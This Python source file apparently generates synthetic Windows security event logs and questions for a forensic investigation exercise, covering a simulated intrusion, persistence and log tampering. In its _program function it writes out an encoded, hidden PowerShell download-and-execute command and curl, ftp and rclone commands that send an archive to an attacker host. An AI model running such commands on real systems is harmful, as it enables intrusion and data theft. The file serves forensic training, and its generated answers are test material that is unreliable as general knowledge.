"""The log of one workstation: days of Windows security events, with a night in which somebody got in and stayed.

By the seed, the intruder guesses a password over remote desktop, comes from another machine with a stolen one, or takes
over without a failure; stays by a service, a task or an account; hides what was done by clearing the log or by removing
one record. Administrators install services, create accounts and run encoded commands, too.
"""

import base64
from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from swaplaw_forensic.synthetic.case import DAYS, Asked, Case, choose, counted, said, timed, working_days
from swaplaw_forensic.synthetic.dice import Dice
from swaplaw_forensic.synthetic.formats.evtx import Event, log
from swaplaw_forensic.synthetic.words import FIRST_NAMES, STEMS, bad_host, called, dated

SERVICES = ("PrintWatch", "AudioRelay", "DiskTune", "NetAssist", "FontHost", "TimeKeeper", "CacheMon", "LinkSync")
GROUPS = ("Administrators", "Remote Desktop Users", "Backup Operators")
PROGRAMS = ("explorer.exe", "OUTLOOK.EXE", "chrome.exe", "notepad.exe", "WINWORD.EXE", "svchost.exe")
SHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
ENTRIES, STAYS, TIDYINGS = ("guess", "sideways", "quiet"), ("service", "task", "account"), ("gap", "cleared")
EVENTS_A_DAY = 500


@dataclass
class Station:
    """A workstation in the making."""

    dice: Dice
    name: str
    people: list[str]
    events: list[tuple[datetime, int, Mapping[str, str]]] = field(default_factory=list)
    leases: list[tuple[datetime, str]] = field(default_factory=list)

    def note(self, when: datetime, event: int, **data: str) -> None:
        """Add an event."""
        self.events.append((when, event, data))

    def logon(self, when: datetime, event: int, user: str, kind: int, address: str) -> None:
        """Add a log-on (4624) or a failed one (4625)."""
        self.note(when, event, TargetUserName=user, TargetDomainName=self.name, LogonType=str(kind), IpAddress=address)

    def run(self, when: datetime, user: str, program: str, command: str) -> None:
        """Add the start of a program."""
        self.note(when, 4688, SubjectUserName=user, NewProcessName=program, CommandLine=command)


def build(dice: Dice, level: int) -> Case:
    """Tell the story and its questions."""
    start = datetime(2026, dice.between(1, 8), dice.between(1, 20), tzinfo=UTC)
    name = f"WS-{dice.word(5, 'ABCDEFGHKLMNPRSTUVW')}{dice.between(10, 99)}"
    station = Station(dice, name, [person.lower() for person in dice.pick_some(FIRST_NAMES, 7)])
    night = start + timedelta(days=DAYS[level] - 1, seconds=dice.between(3600, 5 * 3600))
    entry, stay, tidying = dice.pick(ENTRIES), dice.pick(STAYS), dice.pick(TIDYINGS)
    _office(station, start, DAYS[level])
    pool = _entry(station, entry, night, level)
    pool += _stay(station, stay, night + timedelta(minutes=dice.between(5, 20)))
    pool += _program(station, night + timedelta(minutes=dice.between(25, 40)), level)
    ordered = sorted(station.events, key=lambda row: row[0])
    first = dice.between(1200, 90_000)
    ordinary = [n for n, row in enumerate(ordered) if "Program Files" in row[2].get("CommandLine", "")]
    gone = dice.pick(ordinary[len(ordinary) // 3 : -20])
    if tidying == "gap":
        pool.append(counted("missing", "One record was removed from the log. Which event record number is missing?",
                            first + gone, 3))  # fmt: skip
    else:
        when = night + timedelta(minutes=dice.between(50, 80))
        ordered.append((when, 1102, {"SubjectUserName": station.people[0]}))
        ordered.sort(key=lambda row: row[0])
        pool.append(timed("cleared", "When was the log cleared by the intruder's account (UTC)?", when, 2, "account"))
    numbered = [Event(first + n, *row) for n, row in enumerate(ordered) if tidying != "gap" or n != gone]
    names = called(dice, level, "evtx", "bin", "log")
    prompt = (
        f"/evidence/{names[0]} is the security event log (EVTX) of a Windows workstation that an intruder used one "
        "night, with the account of somebody who works there. Give times in UTC."
    )
    if level == 3:
        prompt += (
            f" Addresses in it are those that the VPN gave out; /evidence/{names[1]} is the log of the VPN (time, "
            "address given out, public address, account), where one address serves many in turn."
        )
    leases = dated(sorted(station.leases))
    procedure = {"entry": entry, "stay": stay, "tidying": tidying}
    return Case(names, prompt, choose(dice, pool), lambda: (log(numbered, station.name), leases), procedure)


def _office(station: Station, start: datetime, days: int) -> None:
    """Fill the days with people at work, and with administrators who do what intruders do, for good reasons."""
    dice, admin = station.dice, station.people[1]
    for when in working_days(dice, start, days, EVENTS_A_DAY):
        person, what = dice.pick(station.people), dice.below(10)
        if what < 3:
            station.logon(when, 4624, person, 2, "127.0.0.1")
        elif what < 6:
            kind = dice.pick((3, 10) if what < 5 else (2, 10))
            lease = _lease(station, when, person, f"198.51.100.{dice.between(2, 250)}")
            station.logon(when, 4624 if what < 5 else 4625, person, kind, lease)
        else:
            program = f"C:\\Program Files\\{dice.pick(PROGRAMS)}"
            station.run(when, person, program, program)
    for when in working_days(dice, start, days, 3):
        service = f"{dice.pick(SERVICES)}{dice.between(2, 9)}"
        station.note(when, 4697, ServiceName=service, ServiceFileName=f"C:\\Program Files\\{service}\\{service}.exe",
                     SubjectUserName=admin)  # fmt: skip
        station.note(when, 4698, TaskName=f"\\Inventory{dice.word(3)}", TaskContent="C:\\Tools\\inventory.exe",
                     SubjectUserName=admin)  # fmt: skip
        station.note(when, 4720, TargetUserName=f"temp{dice.word(4)}", SubjectUserName=admin)
        command = f"Invoke-WebRequest https://intranet.example/{dice.word(5)}.ps1"
        station.run(when, admin, SHELL, f"powershell.exe -enc {_encoded(command)}")
    for when in working_days(dice, start, days, 6):
        station.logon(when, 4625, dice.pick(("administrator", "admin", "guest")), 10, f"10.20.9.{dice.between(2, 9)}")


def _lease(station: Station, when: datetime, person: str, public: str) -> str:
    """Give out an address of the VPN for a while."""
    inside = f"10.20.0.{station.dice.between(2, 60)}"
    station.leases.append((when - timedelta(seconds=station.dice.between(5, 60)), f"{inside},{public},{person}"))
    return inside


def _entry(station: Station, entry: str, night: datetime, level: int) -> list[Asked]:
    dice, victim = station.dice, station.people[0]
    outside = f"203.0.113.{dice.between(2, 250)}"
    seen = _lease(station, night, victim, outside) if level == 3 else outside
    when, failed = night, dice.between(12, 60) if entry == "guess" else 0
    for _ in range(failed):
        when += timedelta(seconds=dice.between(1, 6))
        station.logon(when, 4625, victim, 10, seen)
    when += timedelta(seconds=dice.between(2, 9))
    station.logon(when, 4624, victim, 3 if entry == "sideways" else 10, seen)
    pool = [
        said("account", "Whose account did the intruder use?", victim, level=2),
        said("address", "From which public IP address did the intruder come?", outside, tier="exact",
             level=level, on="account"),
        timed("entered", "When did the intruder's log-on succeed (UTC)?", when, 2, "account"),
        counted("type", "Which log-on type had the intruder's log-on?", 3 if entry == "sideways" else 10, 1, "entered"),
    ]  # fmt: skip
    if failed:
        text = "How many log-ons on that account failed in the hour before the intruder got in?"
        pool.append(counted("failures", text, failed, 2, "account"))
    return pool


def _stay(station: Station, stay: str, when: datetime) -> list[Asked]:
    """Create what brings the intruder back."""
    dice, victim = station.dice, station.people[0]
    path = f"C:\\Users\\Public\\{dice.word(6)}\\{dice.word(5)}.exe"
    if stay == "account":
        account, group = f"temp{dice.word(4)}", dice.pick(GROUPS)
        station.note(when, 4720, TargetUserName=account, SubjectUserName=victim)
        later = when + timedelta(seconds=dice.between(5, 50))
        station.note(later, 4732, TargetUserName=group, MemberName=account, SubjectUserName=victim)
        return [
            said("created", "Which account did the intruder create?", account, level=2, on="account"),
            said("group", "Into which group was the intruder's new account put?", group, level=2, on="created"),
        ]
    if stay == "task":
        task = f"\\Inventory{dice.word(3)}"
        station.note(when, 4698, TaskName=task, TaskContent=path, SubjectUserName=victim)
        name = said("task", "Which scheduled task did the intruder create?", task, task[1:], level=2, on="account")
    else:
        service = f"{dice.pick(SERVICES)}{dice.between(2, 9)}"
        station.note(when, 4697, ServiceName=service, ServiceFileName=path, SubjectUserName=victim)
        name = said("service", "Which service did the intruder install?", service, level=2, on="account")
    return [name, said("path", f"What is the full path of the program that the {stay} starts?", path, level=2, on=stay)]


def _program(station: Station, when: datetime, level: int) -> list[Asked]:
    """Run an encoded command, then send an archive away."""
    dice, victim = station.dice, station.people[0]
    url = f"http://{bad_host(dice)}/{dice.word(4)}/{dice.word(3)}.ps1"
    command = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
    if level == 3:
        command = f"IEX ('{command[::-1].replace(chr(39), chr(39) * 2)}'[-1..-{len(command)}] -join '')"
    station.run(when, victim, SHELL, f"powershell.exe -nop -w hidden -enc {_encoded(command)}")
    archive, target = f"{dice.pick(STEMS)}_{dice.word(4)}.7z", bad_host(dice)
    ways = {
        "curl": f"curl.exe -s -T C:\\Users\\Public\\{archive} https://{target}/in/",
        "ftp": f"ftp.exe -A -s:C:\\Users\\Public\\{archive}.txt {target}",
        "rclone": f"rclone.exe copy C:\\Users\\Public\\{archive} drop: --sftp-host {target}",
    }
    way = dice.pick(sorted(ways))
    station.run(when + timedelta(minutes=6), victim, f"C:\\Windows\\System32\\{way}.exe", ways[way])
    return [
        said("url", "From which URL does the intruder's encoded PowerShell command load its script?", url, level=3,
             on="account"),
        said("target", "To which host was an archive sent?", target, level=2, on="account"),
        said("archive", "What is the file name of that archive?", archive, f"{archive}.txt", level=2, on="target"),
    ]  # fmt: skip


def _encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()
